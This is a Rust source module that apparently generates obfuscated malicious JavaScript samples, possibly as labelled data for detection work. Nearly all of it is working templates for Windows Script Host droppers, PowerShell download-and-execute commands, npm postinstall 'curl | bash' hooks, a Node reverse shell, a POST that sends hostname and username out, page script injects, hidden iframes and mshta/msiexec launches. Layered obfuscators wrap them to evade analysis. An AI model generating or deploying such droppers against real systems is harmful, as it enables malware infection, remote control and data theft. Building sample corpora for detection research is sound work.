//! JavaScript: attachments for Windows Script Host, packages of npm, injects of pages.

use super::super::{Dice, Truth, base64, codes, each, keyed, put, quoted, reversed, xored};
use super::{listed, only, parted, stretched, table};

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = only(dice);
    match dice.below(11) {
        0 => format!("String.fromCharCode({})", codes(text.bytes(), ", ")),
        1 => rotated(dice, text, before),
        2 => format!("'{}'.split('').reverse().join('')", reversed(text)),
        3 => format!("\"{}\"", each(text, "", |byte| format!("\\x{byte:02x}"))),
        4 => {
            let mark = dice.pick(&["QQ", "ZX", "@", "#"]);
            let littered = dice.littered(text, mark);
            format!("'{littered}'.replace(/{mark}/g, '')")
        }
        5 => {
            before.push_str(&format!("function {name}(s) {{\n  var a = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=', o = '', i = 0, b, c, d, e;\n  while (i < s.length) {{\n    b = a.indexOf(s.charAt(i++)); c = a.indexOf(s.charAt(i++)); d = a.indexOf(s.charAt(i++)); e = a.indexOf(s.charAt(i++));\n    o += String.fromCharCode((b << 2) | (c >> 4));\n    if (d != 64) o += String.fromCharCode(((c & 15) << 4) | (d >> 2));\n    if (e != 64) o += String.fromCharCode(((d & 3) << 6) | e);\n  }}\n  return o;\n}}\n"));
            format!("{name}('{}')", base64(text.as_bytes()))
        }
        6 => {
            let key = dice.name();
            before.push_str(&format!("function {name}(d, k) {{\n  var r = '';\n  for (var i = 0; i < d.length; i++) r += String.fromCharCode(d[i] ^ k.charCodeAt(i % k.length));\n  return r;\n}}\n"));
            format!("{name}([{}], '{key}')", codes(keyed(text, &key), ","))
        }
        7 => format!("unescape('{}')", each(text, "", |byte| format!("%{byte:02x}"))),
        8 => {
            let (letters, places) = table(dice, text);
            before.push_str(&format!("var {name} = '{letters}';\n"));
            let list: Vec<String> =
                places.iter().map(|at| format!("{name}.charAt({at})")).collect();
            list.join(" + ")
        }
        9 => {
            let width = 1 + dice.below(3);
            let step = width + 1;
            let long = stretched(dice, text, width);
            before.push_str(&format!("function {name}(s) {{\n  var r = '';\n  for (var i = 0; i < s.length; i++) {{\n    if (i % {step} == {width}) {{ r = r + s.substr(i, 1); }}\n  }}\n  return r;\n}}\n"));
            format!("{name}('{long}')")
        }
        _ => {
            let key = dice.key();
            let list = codes(xored(text, key), "|");
            before.push_str(&format!("var {name} = '{list}'.split('|');\nfor (var i{name} = 0; i{name} < {name}.length; i{name}++) {{ {name}[i{name}] = String.fromCharCode(parseInt({name}[i{name}]) ^ {key}); }}\n"));
            format!("{name}.join('')")
        }
    }
}

/// A list that is turned until it is right, and read by number, as a well-known obfuscator has it.
fn rotated(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let pieces = dice.pieces(text);
    let mut list: Vec<String> =
        ["push", "length", "toString", "apply"].iter().map(|it| (*it).to_owned()).collect();
    list.truncate(1 + dice.below(4));
    list.extend(pieces.iter().cloned());
    let (one, two) = (2000 + dice.below(90000), 2000 + 2 * dice.below(90000));
    let sum = two / 2;
    list.push(format!("{one}{}", dice.name()));
    list.push(format!("{two}{}", dice.name()));
    let order = dice.order(list.len());
    let list: Vec<String> = order.iter().map(|at| list[*at].clone()).collect();
    let count = list.len();
    let turn = dice.below(400);
    let stored: Vec<String> =
        (0..count).map(|at| list[(at + count - turn % count) % count].clone()).collect();
    let tail = dice.below(0xff) + 0x1000 + 0x100 * dice.below(0xef);
    let (array, get) = (format!("_0x{tail:x}a"), format!("_0x{tail:x}{}", dice.below(10)));
    let base = dice.below(0x1ff);
    let place = |wanted: &str| base + list.iter().position(|it| it == wanted).unwrap_or_default();
    let starting = |start: String| {
        base + list
            .iter()
            .position(|it| it.starts_with(&start) && it.len() > start.len())
            .unwrap_or_default()
    };
    let shown = quoted(&stored, '\'').join(", ");
    let getter = format!(
        "function {get}(_0x1, _0x2) {{ _0x1 = _0x1 - 0x{base:x}; var _0x3 = {array}[_0x1]; return _0x3; }}\n"
    );
    before.push_str(&format!("var {array} = [{shown}];\n"));
    if dice.chance(50) {
        before.push_str(&format!("(function (_0xa, _0xb) {{ var _0xc = function (_0xd) {{ while (--_0xd) {{ _0xa['push'](_0xa['shift']()); }} }}; _0xc(++_0xb); }}({array}, 0x{turn:x}));\n{getter}"));
    } else {
        let (first, second) = (starting(one.to_string()), starting(two.to_string()));
        before.push_str(&format!("{getter}(function (_0xa, _0xb) {{ while (!![]) {{ try {{ var _0xc = -parseInt({get}(0x{first:x})) / 0x1 + parseInt({get}(0x{second:x})) / 0x2; if (_0xc === _0xb) break; else _0xa['push'](_0xa['shift']()); }} catch (_0xe) {{ _0xa['push'](_0xa['shift']()); }} }} }}({array}, {}));\n", sum as i64 - one as i64));
    }
    let words: Vec<String> =
        pieces.iter().map(|piece| format!("{get}(0x{:x})", place(piece))).collect();
    words.join(" + ")
}

/// A number of a packer that counts with digits, small and great letters.
fn numbered(number: usize) -> String {
    let head = if number < 62 { String::new() } else { numbered(number / 62) };
    let digit = number % 62;
    let digit = if digit > 35 {
        char::from(digit as u8 + 29)
    } else {
        char::from_digit(digit as u32, 36).unwrap_or('0')
    };
    format!("{head}{digit}")
}

/// The packer of words, of 2004 and still met.
fn packed(script: &str) -> String {
    let mut words: Vec<String> = Vec::new();
    let mut out = String::new();
    let mut word = String::new();
    for letter in script.chars().chain(['\n']) {
        if letter.is_ascii_alphanumeric() || letter == '_' {
            word.push(letter);
            continue;
        }
        if !word.is_empty() {
            let at = words.iter().position(|it| *it == word).unwrap_or_else(|| {
                words.push(word.clone());
                words.len() - 1
            });
            out.push_str(&numbered(at));
            word.clear();
        }
        match letter {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            other => out.push(other),
        }
    }
    format!(
        "eval(function(p,a,c,k,e,d){{e=function(c){{return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))}};if(!''.replace(/^/,String)){{while(c--){{d[e(c)]=k[c]||e(c)}}k=[function(e){{return d[e]}}];e=function(){{return'\\\\w+'}};c=1}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}return p}}('{out}',62,{},'{}'.split('|'),0,{{}}))\n",
        words.len(),
        words.join("|")
    )
}

fn layered(dice: &mut Dice, script: &str) -> String {
    match dice.below(10) {
        0 => packed(script),
        1 => format!("eval(unescape('{}'));\n", each(script, "", |byte| format!("%{byte:02X}"))),
        2 => format!("eval(String.fromCharCode({}));\n", codes(script.bytes(), ",")),
        _ => script.to_owned(),
    }
}

/// Functions that nothing needs.
fn junk(dice: &mut Dice) -> String {
    (0..dice.below(6))
        .map(|_| {
            let (name, other) = (only(dice), only(dice));
            let (one, two) = (dice.below(5000), dice.below(5000));
            match dice.below(3) {
                0 => {
                    format!("function {name}({other}) {{\n  return {other} + {one} - {two};\n}}\n")
                }
                1 => format!(
                    "var {name} = {one};\nif ({name} > {}) {{ {name} = {two}; }}\n",
                    one + 1
                ),
                _ => format!("// {name} {other} is a plugin which watches {one} elements\n"),
            }
        })
        .collect()
}

const SAVE: &str = r#"@J@@B@var sh = new ActiveXObject("WScript.Shell");
var fso = new ActiveXObject("Scripting.FileSystemObject");
var path = sh.ExpandEnvironmentStrings("%TEMP%") + "\\@F@.exe";
function save(u, p) {
  var x = new ActiveXObject("@X@");
  x.open("GET", u, false);
  x.send();
  if (x.status == 200) {
    var s = new ActiveXObject("ADODB.Stream");
    s.Open();
    s.Type = 1;
    s.Write(x.responseBody);
    s.Position = 0;
    s.SaveToFile(p, 2);
    s.Close();
    sh.Run("\"" + p + "\"", 0, false);
  }
}
"#;

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let file = dice.name();
    let junk = junk(dice);
    let script = match dice.below(12) {
        0 => {
            let object = dice.pick(&[
                "MSXML2.XMLHTTP",
                "Microsoft.XMLHTTP",
                "MSXML2.ServerXMLHTTP.6.0",
                "WinHttp.WinHttpRequest.5.1",
            ]);
            let url = truth.url(dice, &[".exe", ".php", ""]);
            let word = hide(dice, &url, &mut before);
            let script = put(SAVE, &[("J", &junk), ("B", &before), ("F", &file), ("X", object)]);
            format!("{script}save({word}, path);\n")
        }
        1 => {
            let urls: Vec<String> = (0..2 + dice.below(3))
                .map(|_| truth.url(dice, &[".exe", "", "/counter"]))
                .collect();
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, &mut before)).collect();
            let script =
                put(SAVE, &[("J", &junk), ("B", &before), ("F", &file), ("X", "MSXML2.XMLHTTP")]);
            format!(
                "{script}var list = [{}];\nfor (var n = 0; n < list.length; n++) {{\n  try {{ save(list[n], path + n + '.exe'); }} catch (e) {{ }}\n}}\n",
                words.join(", ")
            )
        }
        2 => {
            let url = truth.url(dice, &[".ps1", "", ".txt"]);
            let word = hide(dice, &url, &mut before);
            let name = only(dice);
            format!(
                "{junk}{before}var {name} = {word};\nvar w = WScript.CreateObject('WScript.Shell');\nw.Run('powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command \"IEX (New-Object Net.WebClient).DownloadString(\\'' + {name} + '\\')\"', 0, false);\n"
            )
        }
        3 => {
            let url = truth.url(dice, &["/pixel.png", "/updateResource", ".png"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{junk}{before}function request(d) {{\n  var x = new ActiveXObject('MSXML2.XMLHTTP');\n  x.open('POST', {word}, false);\n  x.send(d);\n  return x.responseText;\n}}\ntry {{\n  eval(request('a=' + Math.floor(Math.random() * 1000)));\n}} catch (e) {{ }}\n"
            )
        }
        4 => {
            let url = truth.url(dice, &["", ".js", ".json"]);
            let (scheme, ..) = parted(&url);
            let word = hide(dice, &url, &mut before);
            format!(
                "const fs = require('fs'), os = require('os'), path = require('path');\nconst {{ exec }} = require('child_process');\n{before}const out = path.join(os.tmpdir(), '{file}');\nrequire('{scheme}').get({word}, (res) => {{\n  const f = fs.createWriteStream(out);\n  res.pipe(f);\n  f.on('finish', () => f.close(() => exec('node ' + out)));\n}}).on('error', () => {{}});\n"
            )
        }
        5 => {
            let url = truth.url(dice, &["", ".sh"]);
            let word = hide(dice, &url, &mut before);
            let run = match dice.below(3) {
                0 => format!(
                    "cp.exec('curl -fsSL ' + {word} + ' | bash', {{ windowsHide: true }}, () => {{}});"
                ),
                1 => format!(
                    "const link = {word};\ncp.exec(`wget -q -O /tmp/{file} ${{link}} && sh /tmp/{file}`);"
                ),
                _ => format!(
                    "cp.spawn('curl', ['-s', '-o', '/tmp/{file}', {word}], {{ detached: true, stdio: 'ignore' }}).unref();"
                ),
            };
            format!("// postinstall\nconst cp = require('child_process');\n{before}{run}\n")
        }
        6 => {
            let (host, port) = truth.endpoint(dice);
            let word = hide(dice, &host, &mut before);
            format!(
                "{before}(function () {{\n  var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\n  var client = new net.Socket();\n  client.connect({port}, {word}, function () {{\n    client.pipe(sh.stdin);\n    sh.stdout.pipe(client);\n    sh.stderr.pipe(client);\n  }});\n  return /a/;\n}})();\n"
            )
        }
        7 => {
            let url = truth.url(dice, &["", "/payload", ".json"]);
            let word = hide(dice, &url, &mut before);
            if dice.chance(50) {
                format!(
                    "{before}fetch({word}).then(r => r.text()).then(t => eval(t)).catch(() => {{}});\n"
                )
            } else {
                format!(
                    "const axios = require('axios');\n{before}(async () => {{\n  try {{\n    const r = await axios.get({word});\n    new Function('require', r.data.cookie)(require);\n  }} catch (e) {{}}\n}})();\n"
                )
            }
        }
        8 => {
            let url = truth.url(dice, &["", "/log"]);
            let (scheme, host, port, path) = parted(&url);
            let word = hide(dice, &host, &mut before);
            let said = if url.contains(&format!(":{port}/")) {
                format!("\n  port: {port},")
            } else {
                String::new()
            };
            format!(
                "const os = require('os');\nconst http = require('{scheme}');\n{before}const data = JSON.stringify({{ h: os.hostname(), d: __dirname, u: os.userInfo().username }});\nconst req = http.request({{\n  hostname: {word},{said}\n  path: '{path}',\n  method: 'POST',\n  headers: {{ 'Content-Type': 'application/json', 'Content-Length': data.length }}\n}}, (res) => {{ res.on('data', () => {{}}); }});\nreq.on('error', () => {{}});\nreq.write(data);\nreq.end();\n"
            )
        }
        9 => {
            let url = truth.url(dice, &[".js", "", ".php"]);
            if dice.chance(50) {
                format!(
                    ";(function (d, s, u) {{ var a = d.createElement(s), b = d.getElementsByTagName(s)[0]; a.async = 1; a.src = u; b.parentNode.insertBefore(a, b); }})(document, 'script', atob('{}'));\n",
                    base64(url.as_bytes())
                )
            } else {
                let word = hide(dice, &url, &mut before);
                format!(
                    "{before}var s = document.createElement('script');\ns.type = 'text/javascript';\ns.async = true;\ns.src = {word};\n(document.head || document.getElementsByTagName('head')[0]).appendChild(s);\n"
                )
            }
        }
        10 => {
            let url = truth.url(dice, &["", ".html", ".php"]);
            let word = hide(dice, &url, &mut before);
            match dice.below(3) {
                0 => format!("{before}window.location.href = {word};\n"),
                1 => format!(
                    "{before}document.write('<iframe src=\"' + {word} + '\" width=\"1\" height=\"1\" style=\"display:none\"></iframe>');\n"
                ),
                _ => format!(
                    "{before}var f = document.createElement('iframe');\nf.style.display = 'none';\nf.setAttribute('src', {word});\ndocument.body.appendChild(f);\n"
                ),
            }
        }
        _ => {
            let url = truth.url(dice, &[".hta", ".msi"]);
            let word = hide(dice, &url, &mut before);
            let program = if url.contains(".hta") { "mshta " } else { "msiexec /qn /i " };
            format!(
                "{junk}{before}new ActiveXObject('Shell.Application').ShellExecute('cmd.exe', '/c {program}' + {word}, '', 'open', 0);\n"
            )
        }
    };
    let marks = listed([dice.below(90), dice.below(90)], "-");
    let script = if dice.chance(20) { format!("/* build {marks} */\n{script}") } else { script };
    layered(dice, &script)
}
